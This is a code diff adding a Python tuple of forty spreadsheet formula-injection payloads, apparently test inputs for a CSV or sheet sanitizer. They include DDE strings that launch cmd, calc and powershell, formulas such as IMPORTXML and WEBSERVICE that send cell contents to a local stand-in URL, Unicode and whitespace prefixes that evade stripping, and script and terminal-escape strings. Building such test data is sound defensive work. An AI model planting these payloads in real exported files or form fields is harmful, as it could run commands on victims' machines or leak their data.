@@ -1,0 +1,48 @@
+"""Forty texts that somebody could put into a sheet, or a service into an answer, so that it acts where it is shown."""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",A1),"//a")',
+    '=IMPORTDATA("http://127.0.0.1:9/")',
+    '=WEBSERVICE("http://127.0.0.1:9/")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=2+5+cmd|'/C powershell'!A0",
+    '=INDIRECT("A1")',
+    "=SUM(1;2)",
+    "=@SUM(1,2)",
+    "==1+1",
+    "={1;2}",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "+49 170 1234567",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "--1",
+    "-@SUM(1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\t@SUM(1)",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    " =1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠A1",
+    "'=1+1",
+    '"=1+1"',
+    'a",=1+1,"',
+    "a;=1+1",
+    "<script>alert(1)</script>=1+1",
+    "\x1b[2J\x1b]0;=1+1\x07<img src=x onerror=alert(1)>",
+)
+"""Formulas as Excel, LibreOffice and Google Sheets know them, what is stripped from before them, marks and controls."""
+assert len(PAYLOADS) == len(set(PAYLOADS)) == 40
